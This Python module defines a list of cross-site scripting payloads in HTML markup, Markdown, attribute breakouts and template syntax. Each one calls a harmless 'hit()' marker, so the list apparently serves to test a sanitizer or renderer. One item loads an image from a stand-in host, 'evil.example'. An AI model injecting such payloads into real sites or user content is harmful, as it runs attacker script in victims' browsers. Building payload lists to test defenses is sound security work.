"""Payloads of cross-site scripting: as markup, in Markdown, in addresses, in attributes, and in templates."""

from __future__ import annotations

HIT = "hit"
"""The function that all payloads call."""
_J = f"{HIT}()"

_MARKUP = [
    f"<script>{_J}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_J}></SCRIPT>",
    f"<img src=x onerror={_J}>",
    f'<img src="x" onerror="{_J}" />',
    f"<svg onload={_J}>",
    f"<svg><script>{_J}</script></svg>",
    f"<svg><animate onbegin={_J} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_J}"><text y=20>x</text></a></svg>',
    f"<body onload={_J}>",
    f"<iframe src=javascript:{_J}></iframe>",
    f'<iframe srcdoc="<script>parent.{_J}</script>"></iframe>',
    f"<object data=javascript:{_J}></object>",
    f"<embed src=javascript:{_J}>",
    f"<details open ontoggle={_J}>x</details>",
    f"<input autofocus onfocus={_J}>",
    f"<video><source onerror={_J}></video>",
    f"<audio src=x onerror={_J}>",
    f"<marquee onstart={_J}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_J}></style></mglyph></table></mtext></math>",
    f'<form action="javascript:{_J}"><button>x</button></form>',
    f'<base href="javascript:{_J}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_J}">',
    f'<link rel="stylesheet" href="javascript:{_J}">',
    f"<style>@import 'javascript:{_J}';</style>",
    f"<template><script>{_J}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_J}>">',
    f'<a href="javascript:{_J}">x</a>',
    f"<button popovertarget=x onclick={_J}>x</button><div id=x popover onbeforetoggle={_J}>",
    f"<x onpointerrawupdate={_J} style=position:fixed;inset:0>",
    f"<!--><img src=x onerror={_J}>-->",
]
_MARKDOWN = [
    f"[x](javascript:{_J})",
    f"[x](JaVaScRiPt:{_J})",
    f"[x](java\tscript:{_J})",
    f"[x](&#106;avascript:{_J})",
    f"[x](<javascript:{_J}>)",
    f"[x](vbscript:{_J})",
    f"[x](data:text/html,<script>{_J}</script>)",
    f"![x](javascript:{_J})",
    f'![x](x"onerror="{_J})',
    f"![x](https://evil.example/pixel.png?{_J})",
    f"<javascript:{_J}>",
    f'[x](https://a.example/"onmouseover="{_J})',
    f"[x]: javascript:{_J}\n\n[x]",
    f"```html\n<img src=x onerror={_J}>\n```",
    f"`<img src=x onerror={_J}>`",
    f"| a |\n|---|\n| <img src=x onerror={_J}> |",
    f"- <svg onload={_J}>\n> <svg onload={_J}>",
]
_OTHERS = [
    f'"><script>{_J}</script>',
    f"'-{_J}-'",
    f"${{{_J}}}",
    f"{{{{constructor.constructor('{_J}')()}}}}",
    f"</textarea><script>{_J}</script>",
    f"</pre></code><img src=x onerror={_J}>",
    f"\u2028{_J}\u2029//",
    f'{{"__proto__": {{"innerHTML": "<img src=x onerror={_J}>"}}, "dangerouslySetInnerHTML": {{"__html": "x"}}}}',
    f"#/tree/<img src=x onerror={_J}>",
]
PAYLOADS = [*_MARKUP, *_MARKDOWN, *_OTHERS]
